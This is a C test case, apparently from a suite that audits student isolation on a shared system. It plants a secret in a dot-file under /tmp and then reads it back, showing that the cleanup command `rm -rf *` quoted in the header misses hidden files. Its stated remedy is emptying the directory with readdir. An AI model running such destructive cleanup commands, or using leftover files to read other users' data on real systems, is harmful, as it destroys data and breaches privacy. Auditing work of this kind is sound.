// SPDX-License-Identifier: MIT
/*
 * hidden-name.c - a file that `cd /tmp; rm -rf *` does not see.
 *
 * Goal: another student's work.
 * Means: the shell's * does not match a leading dot. Editors, caches and tools leave their files
 * under such names, and the usual one-line cleaner leaves them lying.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char path[128], text[256];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/tmp/.%s", b->name);
	attempting(b);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return denied("open");
	n = read(fd, text, sizeof(text));
	close(fd);
	if (n < 0)
		return denied("read");
	loot(text, (size_t)n);
	return CLAIM_DONE;
}

/* Where /tmp is out of reach, the student's own folder is used: the working directory. */
static enum claim victim(const struct brief *b)
{
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/tmp/.%s", b->name);
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		fd = open(path + strlen("/tmp/"), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, b->secret, strlen(b->secret)) < 0)
		return failed(path);
	close(fd);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student reads the last one's file",
	.means = "a name with a leading dot, which the shell's * does not match",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.quick = true,
	.id = "TMPS-02",
	.attack_id = "T1005, T1564.001, CWE-459",
	.remedy = "empty by readdir, never by a glob",
	.run = run,
	.victim = victim,
};
